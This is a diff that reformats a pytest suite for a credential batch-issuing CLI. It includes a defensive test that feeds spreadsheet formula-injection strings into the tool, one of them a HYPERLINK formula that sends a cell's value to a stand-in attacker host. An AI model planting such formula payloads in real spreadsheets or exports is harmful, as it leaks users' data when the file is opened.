@@ -36,8 +36,12 @@ from .test_batch_api import (
 
 PROJECT_ROOT = Path(__file__).resolve().parents[1]
 RESULT_HEADER = ["line", "number", "name", "job", "level", "status", "url"]
-INJECTIONS = ['=HYPERLINK("https://evil.example/?x="&A1,"klik")', "+62 812 0000", "@SUM(1+1)",
-              "-2+3"]
+INJECTIONS = [
+    '=HYPERLINK("https://evil.example/?x="&A1,"klik")',
+    "+62 812 0000",
+    "@SUM(1+1)",
+    "-2+3",
+]
 
 
 @pytest.fixture
@@ -84,16 +88,25 @@ def read_results(out: Path) -> list[list[str]]:
 @pytest.mark.parametrize("variant", ["plain", "excel", "xlsx"])
 def test_sample_issues_and_writes_every_output(skk, contoh, cohort_path, tmp_path, variant):
     sample = sample_bytes()
-    path = {"plain": lambda: cohort_path(sample),
-            "excel": lambda: cohort_path(excel_indonesian(sample)),
-            "xlsx": lambda: cohort_path(as_xlsx(sample), "peserta.xlsx")}[variant]()
+    path = {
+        "plain": lambda: cohort_path(sample),
+        "excel": lambda: cohort_path(excel_indonesian(sample)),
+        "xlsx": lambda: cohort_path(as_xlsx(sample), "peserta.xlsx"),
+    }[variant]()
     out = tmp_path / "out"
     result = issue_batch(skk, path, out, "--json")
     assert result.exit_code == 0, result.output
     summary = json.loads(result.stdout)
     assert (summary["issued"], summary["existing"]) == (75, 0)
-    assert list(summary["results"][0]) == ["line", "number", "name", "job", "level", "status",
-                                           "verify_url"]
+    assert list(summary["results"][0]) == [
+        "line",
+        "number",
+        "name",
+        "job",
+        "level",
+        "status",
+        "verify_url",
+    ]
     assert CredentialRecord.select().count() == 75
     assert leftovers(out) == ["out"]
 
@@ -121,8 +134,10 @@ def test_sample_issues_and_writes_every_output(skk, contoh, cohort_path, tmp_pat
 
 def test_results_csv_neutralises_formula_injection(skk, contoh, cohort_path, tmp_path):
     lines = ["nama,nomor,kode_jabatan,jenjang"]
-    lines += [f'"{name.replace(chr(34), chr(34) * 2)}",INJ {i},ME063100,3'
-              for i, name in enumerate(INJECTIONS)]
+    lines += [
+        f'"{name.replace(chr(34), chr(34) * 2)}",INJ {i},ME063100,3'
+        for i, name in enumerate(INJECTIONS)
+    ]
     out = tmp_path / "out"
     result = issue_batch(skk, cohort_path("\n".join(lines).encode()), out)
     assert result.exit_code == 0, result.output
@@ -132,8 +147,9 @@ def test_results_csv_neutralises_formula_injection(skk, contoh, cohort_path, tmp
     assert "=HYPERLINK(&#34;https://evil.example" in html or "=HYPERLINK(&quot;" in html
 
 
-def test_rerun_issues_nothing_twice_and_writes_a_complete_folder(skk, contoh, cohort_path,
-                                                                 tmp_path):
+def test_rerun_issues_nothing_twice_and_writes_a_complete_folder(
+    skk, contoh, cohort_path, tmp_path
+):
     path = cohort_path(excel_indonesian(generated_cohort(12)))
     first = json.loads(issue_batch(skk, path, tmp_path / "a", "--json").stdout)
     again = issue_batch(skk, path, tmp_path / "b", "--json")
@@ -165,16 +181,19 @@ def test_bad_file_issues_nothing_and_writes_nothing(skk, contoh, cohort_path, tm
     assert leftovers(out) == []
 
 
-def test_a_cell_over_the_csv_field_limit_is_refused_naming_its_line(skk, contoh, cohort_path,
-                                                                    tmp_path):
+def test_a_cell_over_the_csv_field_limit_is_refused_naming_its_line(
+    skk, contoh, cohort_path, tmp_path
+):
     huge = "x" * 200 * 1024  # over the CSV reader's 128 KiB field limit: csv.Error before
-    path = cohort_path(f'nama;nomor;kode_jabatan;jenjang\nRina;A-1;ME063100;3\n"{huge}";A-2;'
-                       "ME063100;3\n".encode())
+    path = cohort_path(
+        f'nama;nomor;kode_jabatan;jenjang\nRina;A-1;ME063100;3\n"{huge}";A-2;ME063100;3\n'.encode()
+    )
     result = issue_batch(skk, path, tmp_path / "out")
     assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
     assert result.exit_code == 1 and result.stdout == ""
     assert result.stderr.startswith(
-        "skk: line 3: a cell is larger than 128 KiB: not a spreadsheet's CSV"), result.stderr
+        "skk: line 3: a cell is larger than 128 KiB: not a spreadsheet's CSV"
+    ), result.stderr
     assert len(result.stderr.splitlines()) == 1 and CredentialRecord.select().count() == 0
     assert not (tmp_path / "out").exists()
 
@@ -267,10 +286,22 @@ def test_kill_9_while_rendering_leaves_nothing_issued(contoh, env, cohort_path, 
     path, out = cohort_path(generated_cohort(1500)), tmp_path / "out"
     primary, secondary = os.openpty()  # stderr on a terminal, so the progress bar is drawn
     process = subprocess.Popen(
-        [sys.executable, "-c", "from verifier.cli import main; main()",
-         "issue-batch", "--agency", "lsp-contoh", str(path), "--out", str(out)],
-        cwd=PROJECT_ROOT, env={**os.environ, **env, "COLUMNS": "120"},
-        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=secondary,
+        [
+            sys.executable,
+            "-c",
+            "from verifier.cli import main; main()",
+            "issue-batch",
+            "--agency",
+            "lsp-contoh",
+            str(path),
+            "--out",
+            str(out),
+        ],
+        cwd=PROJECT_ROOT,
+        env={**os.environ, **env, "COLUMNS": "120"},
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL,
+        stderr=secondary,
         start_new_session=True,  # its own process group: we can see (and reap) its workers
     )
     os.close(secondary)
